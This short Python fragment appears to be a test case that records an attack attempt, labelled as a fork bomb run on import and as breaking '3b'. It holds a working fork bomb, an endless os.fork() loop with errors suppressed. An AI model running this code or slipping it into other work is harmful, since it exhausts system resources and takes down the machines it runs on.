# tries: a fork bomb as soon as it is imported
# breaks: 3b
while True:
    with suppress(OSError):
        os.fork()
